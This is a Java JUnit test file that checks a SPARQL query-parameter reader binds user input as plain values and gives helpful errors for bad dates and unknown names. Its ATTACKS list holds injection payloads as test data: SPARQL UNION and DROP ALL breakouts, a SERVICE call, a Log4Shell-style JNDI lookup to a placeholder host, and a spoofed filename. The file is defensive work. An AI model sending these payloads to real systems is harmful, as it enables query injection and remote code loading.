package tupu.query;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Map;
import org.apache.jena.graph.Node;
import org.apache.jena.graph.NodeFactory;
import org.apache.jena.query.Query;
import org.apache.jena.query.QueryFactory;
import org.apache.jena.query.Syntax;
import org.apache.jena.sparql.core.DatasetGraph;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import tupu.text.InputException;

class ParameterReaderTest {

    /** Each would change the query if it were spliced into its text. */
    private static final List<String> ATTACKS =
            List.of(
                    "x\" } UNION { ?s ?p ?o } #",
                    "x' ; DROP ALL #",
                    "\\\") } SERVICE <http://127.0.0.1/> { ?s ?p ?o } #",
                    "\"\"\" } } SELECT * { ?s ?p ?o } #",
                    "}\n# comment\n{ ?s ?p ?o",
                    "<http://evil.example/> } UNION { ?a ?b ?c",
                    "?headline",
                    "${jndi:ldap://evil.example/}",
                    "\u202Egnp.exe\u0000");

    private static DatasetGraph graph;
    private static ParameterReader reader;

    @BeforeAll
    static void build() {
        graph = SampleGraph.open();
        reader = new ParameterReader(NameResolver.of(graph, SampleGraph.IRIS, Tongue.CHINESE));
    }

    @Test
    void aTextIsNothingButAText() {
        CatalogueQuery query = QueryCatalogue.builtIn().require("what-does-article-assert");
        for (String attack : ATTACKS) {
            BoundQuery bound = bound(query, Map.of("headline", attack));
            Query shown = parse(bound.sparql());
            assertEquals(
                    NodeFactory.createLiteralString(attack),
                    bound.parameters().values().get("headline"));
            assertEquals(bound.bound().getQueryPattern(), shown.getQueryPattern(), attack);
            assertEquals(
                    0,
                    (int)
                            new QueryRunner(RunLimits.DEFAULT)
                                    .run(graph, bound)
                                    .match(t -> t.rows().size(), t -> -1, g -> -1),
                    attack);
        }
    }

    @Test
    void aNameIsNothingButAName() {
        CatalogueQuery query = QueryCatalogue.builtIn().require("timeline");
        for (String attack : ATTACKS) {
            assertTrue(message(query, Map.of("entity", attack)).contains("is no entity"), attack);
        }
    }

    @Test
    void theParametersOfAQueryWithoutHeaderAreValuesToo() {
        CatalogueQuery query =
                CatalogueQuery.read(
                        "own.rq", "own", "SELECT * { ?article schema:headline ?title }");
        for (String attack : ATTACKS) {
            BoundQuery bound = bound(query, Map.of("title", attack));
            assertEquals(bound.bound().getQueryPattern(), parse(bound.sparql()).getQueryPattern());
        }
        assertEquals(
                "own: there is no parameter “titel” (use a variable of the query)",
                message(query, Map.of("titel", "x")));
    }

    @Test
    void valuesOfAQueryWithoutHeaderAreTakenForWhatTheyLookLike() {
        CatalogueQuery query = CatalogueQuery.read("own.rq", "own", "SELECT * { ?s ?p ?o }");
        assertEquals("\"2024-03-09\"^^xsd:date", shown(query, "2024-03-09"));
        assertEquals("7", shown(query, "7").replaceAll("\"(.)\"\\^\\^xsd:integer", "$1"));
        assertEquals("topic:data", shown(query, "topic:data"));
        assertEquals("topic:data", shown(query, "https://w3id.org/tupu/topic/data"));
        assertEquals("\"foo:bar\"", shown(query, "foo:bar"));
    }

    @Test
    void datesMeanTheirFirstOrLastDay() {
        CatalogueQuery query = QueryCatalogue.builtIn().require("layoffs");
        Map<String, Node> values =
                bound(query, Map.of("since", "2024年2月", "until", "2024-02")).parameters().values();
        assertEquals("2024-02-01", values.get("since").getLiteralLexicalForm());
        assertEquals("2024-02-29", values.get("until").getLiteralLexicalForm());
        assertEquals("2023-12-31", DateWords.read("2023", true).orElseThrow().toString());
        assertEquals("2024-03-09", DateWords.read("2024年3月9日", true).orElseThrow().toString());
        assertEquals("2024-05-01", DateWords.read("May 2024", false).orElseThrow().toString());
        assertEquals(
                "since: “2024-02-31” is not a date (write 2024, 2024-03 or 2024-03-09)",
                message(query, Map.of("since", "2024-02-31")));
    }

    @Test
    void whatIsMissingOrUnknownIsSaidWithACure() {
        CatalogueQuery query = QueryCatalogue.builtIn().require("who-commented-on-topic");
        assertEquals(
                "who-commented-on-topic: parameter “topic” is missing (add -p topic=算力瓶颈)",
                message(query, Map.of()));
        assertEquals(
                "who-commented-on-topic: there is no parameter “topics” (use topic, since, until)",
                message(query, Map.of("topics", "data")));
        assertEquals(
                "topic: “算力瓶景” is no topic that the graph knows (near are 算力瓶颈",
                message(query, Map.of("topic", "算力瓶景")).replaceAll("(算力瓶颈).*", "$1"));
        assertEquals(
                "atLeast: “many” is not a number (write digits, such as 2)",
                message(
                        QueryCatalogue.builtIn().require("most-quoted"),
                        Map.of("atLeast", "many")));
    }

    private static String shown(CatalogueQuery query, String value) {
        String sparql = bound(query, Map.of("o", value)).sparql();
        return sparql.replaceAll("(?s).*VALUES \\?o \\{ (.*?) }.*", "$1");
    }

    private static BoundQuery bound(CatalogueQuery query, Map<String, String> words) {
        return new BoundQuery(query, reader.read(query, words), Tongue.CHINESE);
    }

    private static String message(CatalogueQuery query, Map<String, String> words) {
        return assertThrows(InputException.class, () -> reader.read(query, words)).getMessage();
    }

    private static Query parse(String sparql) {
        return QueryFactory.create(sparql, "https://w3id.org/tupu/", Syntax.syntaxSPARQL_11);
    }
}
